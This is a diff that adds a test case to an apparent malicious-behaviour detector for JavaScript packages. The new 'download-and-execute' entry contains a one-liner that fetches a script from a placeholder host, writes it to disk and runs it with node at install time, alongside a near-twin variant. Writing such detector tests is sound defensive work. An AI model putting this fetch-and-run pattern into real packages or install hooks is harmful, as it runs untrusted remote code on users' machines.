@@ -84,6 +84,13 @@ const DEEDS: readonly Deed[] = [
     code,
     twin: code.replace(/eval\(|require\('child_process'\)\.exec\(/, 'console.log('),
   })),
+  {
+    name: 'a program that is fetched and started, and one that an installer fetched and hands all words on to',
+    check: 'download-and-execute',
+    code: `const p = require('os').tmpdir() + '/m.js'; require('request')('https://c.invalid/m', (e, r, b) => { require('fs').writeFileSync(p, b); require('child_process').execFileSync('node', [p]) })`,
+    twin: `const p = require('path').join(__dirname, 'bin', 'tool'); require('request')('https://c.invalid/m', (e, r, b) => { require('fs').writeFileSync(p, b) }); require('child_process').execFileSync('node', [p].concat(process.argv.slice(2)))`,
+    moments: ['install'],
+  },
 ]
 
 testDeeds(DEEDS)
